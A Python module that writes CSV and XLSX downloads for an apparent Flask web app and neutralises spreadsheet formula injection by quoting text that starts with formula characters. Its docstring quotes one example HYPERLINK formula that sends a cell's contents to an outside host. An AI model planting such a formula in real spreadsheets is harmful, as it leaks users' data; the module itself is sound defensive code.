"""Tables as downloads: CSV with a UTF-8 BOM (so Excel on a Vietnamese Windows reads the diacritics) and XLSX
written row by row (openpyxl ``write_only``), for results that can run to thousands of rows.

Every spreadsheet a user downloads goes through :func:`cell` (docs/security.md, "Formula injection"):
a text a unit typed, such as ``=HYPERLINK("http://x/?d="&C2,"Xem")``, must never become a live formula
in the reader's Excel or LibreOffice. So text is written as text (XLSX cells of type ``s``, never ``f``)
and a text starting with ``= + - @``, a tab or a carriage return gets a leading apostrophe
(:func:`neutralise`). Numbers are never touched: ``-5`` stays the number -5, and so does a text that is
only a plain number (a DHIS2 value, a code). Our own importers read files back with :func:`restore`,
the exact inverse, so a round trip gives back what was written.
"""
from __future__ import annotations

import csv
import io
import re
from decimal import Decimal

CSV_MIME = "text/csv; charset=utf-8"
XLSX_MIME = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
#: What makes a spreadsheet read a cell as a formula (OWASP "CSV injection").
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
QUOTE = "'"
_PLAIN_NUMBER = re.compile(r"[+-]?[0-9]+(?:\.[0-9]+)?")


def _needs_quote(text: str) -> bool:
    core = text.lstrip(QUOTE)  # "'=x" is quoted too, so that restore() can tell it from a quoted "=x"
    return core.startswith(FORMULA_START) and not _PLAIN_NUMBER.fullmatch(core)


def neutralise(text: str) -> str:
    """``text`` as a spreadsheet shows it and never runs it: ``'=1+1``; a plain number (``-5``) as it is."""
    return QUOTE + text if _needs_quote(text) else text


def restore(text: str) -> str:
    """The inverse of :func:`neutralise`, for our importers: ``restore(neutralise(t)) == t`` for every ``t``."""
    if text.startswith(QUOTE) and _needs_quote(text[1:]):
        return text[1:]
    return text


def cell(value):
    """A value as a spreadsheet cell: numbers as numbers (``Decimal`` as int or float), text neutralised."""
    if isinstance(value, Decimal):
        return int(value) if value == value.to_integral_value() else float(value)
    if isinstance(value, str):
        return neutralise(value)
    return value


def csv_text(value) -> str:
    """A value as one CSV field: blank for None, numbers in plain machine form, text neutralised."""
    value = cell(value)
    return "" if value is None else str(value)


def csv_row(values) -> list[str]:
    return [csv_text(v) for v in values]


def csv_bytes(headers: list[str], rows) -> bytes:
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\r\n")
    writer.writerow(csv_row(headers))
    for row in rows:
        writer.writerow(csv_row(row))
    return ("\ufeff" + out.getvalue()).encode("utf-8")


def xlsx_cell(ws, value, **styles):
    """A write-only cell: text is typed ``s`` (never a formula) and neutralised; ``styles`` are set on it
    (``font``, ``alignment``, ``border``, ``fill``, ``number_format``)."""
    from openpyxl.cell import WriteOnlyCell
    from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

    if isinstance(value, str):  # what XML cannot hold goes first: "\x01=1" must not become "=1"
        value = ILLEGAL_CHARACTERS_RE.sub("", value)
    value = cell(value)
    c = WriteOnlyCell(ws, value=value)
    if isinstance(value, str):
        c.data_type = "s"
    for name, style in styles.items():
        if style is not None:
            setattr(c, name, style)
    return c


def xlsx_row(ws, values) -> list:
    """A row for ``ws.append``: text through :func:`xlsx_cell`; numbers, dates and blanks as they are
    (openpyxl writes those itself, faster: an export can hold 664,200 values)."""
    return [xlsx_cell(ws, v) if isinstance(v, str) else cell(v) for v in values]


def write_xlsx(target, title: str, headers: list[str], rows) -> None:
    """Write the sheet to ``target`` (a path or a binary file object)."""
    from openpyxl import Workbook
    from openpyxl.styles import Font

    wb = Workbook(write_only=True)
    ws = wb.create_sheet(title=re.sub(r"[\\/?*\[\]:]", " ", title)[:31].strip() or "Sheet1")
    bold = Font(bold=True)
    ws.append([xlsx_cell(ws, str(h), font=bold) for h in headers])
    for row in rows:
        ws.append(xlsx_row(ws, row))
    wb.save(target)


def xlsx_bytes(title: str, headers: list[str], rows) -> bytes:
    out = io.BytesIO()
    write_xlsx(out, title, headers, rows)
    return out.getvalue()


def display_number(value) -> str:
    """A number for a screen, in the user's locale (Vietnamese: 1.234,5); blank for none."""
    from flask_babel import format_decimal

    if value is None:
        return ""
    return format_decimal(cell(value), format="#,##0.##")
